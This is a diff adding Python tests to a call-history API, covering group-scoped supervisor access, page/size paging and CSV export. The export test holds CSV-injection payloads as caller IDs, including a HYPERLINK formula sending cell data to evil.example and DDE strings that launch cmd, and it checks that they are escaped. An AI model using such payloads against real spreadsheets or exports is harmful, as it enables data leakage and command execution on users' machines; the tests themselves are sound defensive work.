@@ -4,6 +4,7 @@ operator visibility, one call, create, update rules, CSV export, validation."""
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import uuid
 from datetime import UTC, datetime, timedelta
@@ -179,3 +180,87 @@ async def test_export_csv_streams_filtered_rows(hist: World) -> None:
     resp = await hist.client.get("/api/calls/export?limit=x&status=nope",
                                  headers=hist.auth("admin"))
     assert resp.status == 422
+
+
+async def _g2_operator(w: World) -> str:
+    """An operator in the other group (G2), created once."""
+    from tests.helpers import ensure_user
+
+    suffix = w.other_group[:6]
+    user = await ensure_user(w.services, f"opg2_{suffix}", "operator",
+                             extension=str(int(suffix, 16) % 999 + 9000),
+                             group_id=w.other_group)
+    return str(await w.services.pool.fetchval(
+        "SELECT id FROM operators WHERE user_id = $1::uuid", user))
+
+
+async def test_supervisor_of_a_group_sees_only_that_groups_calls(hist: World) -> None:
+    """Issue 8 item 4: list, total, one call, export and update follow one definition."""
+    g2 = await _g2_operator(hist)
+    await write_calls(hist.services, [
+        make_call("h-g2", DAY + timedelta(hours=13), status=CallStatus.COMPLETED, wait=4,
+                  talk=30, operator_id=g2)])
+    mine = [cid("h-4"), cid("h-1")]  # answered by op_a, in the supervisor's group
+
+    status, body = await get(hist, f"/api/calls/?{Q}", "sup_group")
+    assert status == 200, body
+    assert [i["id"] for i in body["items"]] == mine and body["total"] == 2
+    status, body = await get(hist, f"/api/calls/?{Q}&status=completed", "sup_group")
+    assert [i["id"] for i in body["items"]] == mine and body["total"] == 2
+    status, body = await get(hist, f"/api/calls/{cid('h-g2')}", "sup_group")
+    assert status == 404 and body["code"] == "DB_002"
+    status, body = await get(hist, f"/api/calls/{cid('h-1')}", "sup_group")
+    assert status == 200 and body["id"] == cid("h-1")
+    resp = await hist.client.get(f"/api/calls/export?{Q}", headers=hist.auth("sup_group"))
+    rows = list(csv.DictReader(io.StringIO(await resp.text())))
+    assert [r["id"] for r in rows] == mine
+    # an unscoped reader still sees G2's call
+    status, body = await get(hist, f"/api/calls/{cid('h-g2')}", "manager")
+    assert status == 200
+    await hist.services.pool.execute("DELETE FROM calls WHERE channel_id = 'h-g2'")
+
+
+async def test_paging_by_page_and_size(hist: World) -> None:
+    """Issue 8 item 10: page/size (and per_page) page; the envelope says the size."""
+    seen = []
+    for page in (1, 2, 3):
+        status, body = await get(hist, f"/api/calls/?{Q}&page={page}&size=2")
+        assert status == 200, body
+        assert (body["page"], body["size"], body["pages"], body["total"]) == (page, 2, 3, 6)
+        seen += [i["id"] for i in body["items"]]
+    assert seen == [cid(f"h-{n}") for n in (6, 5, 4, 3, 2, 1)]
+    status, body = await get(hist, f"/api/calls/?{Q}&page=2&per_page=4")
+    assert [i["id"] for i in body["items"]] == [cid("h-2"), cid("h-1")]
+    assert (body["page"], body["size"], body["pages"]) == (2, 4, 2)
+    _, body = await get(hist, f"/api/calls/?{Q}")
+    assert (body["page"], body["size"]) == (1, 50)
+    for query, field in (("size=501", "size"), ("per_page=10000", "per_page"),
+                         ("page=0", "page")):
+        status, body = await get(hist, f"/api/calls/?{query}")
+        assert status == 422 and body["detail"][0]["loc"] == ["query", field], query
+
+
+async def test_export_neutralises_spreadsheet_formulas(hist: World) -> None:
+    """OWASP CSV injection: a caller ID a spreadsheet would run is exported as text."""
+    hostile = {"csv-1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+               "csv-2": "+1+cmd|' /C calc'!A0", "csv-3": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "csv-4": "-2+3", "csv-5": "\t=1+1", "csv-6": "+79001234567"}
+    calls = []
+    for n, (tag, caller) in enumerate(hostile.items()):
+        call = make_call(tag, DAY + timedelta(hours=14, minutes=n), status=CallStatus.MISSED,
+                         wait=5)
+        calls.append(dataclasses.replace(call, caller_number=caller))
+    await write_calls(hist.services, calls)
+    try:
+        resp = await hist.client.get(
+            "/api/calls/export?date_from=2021-03-01T14:00:00Z&date_to=2021-03-01T14:59:00Z",
+            headers=hist.auth("admin"))
+        assert resp.status == 200
+        rows = list(csv.DictReader(io.StringIO(await resp.text())))
+        got = {r["channel_id"]: r["caller_number"] for r in rows}
+        assert got == {tag: "'" + caller for tag, caller in hostile.items()}
+        # the API itself keeps the caller ID as it came
+        _, body = await get(hist, f"/api/calls/{cid('csv-1')}")
+        assert body["caller_number"] == hostile["csv-1"]
+    finally:
+        await hist.services.pool.execute("DELETE FROM calls WHERE channel_id LIKE 'csv-%'")
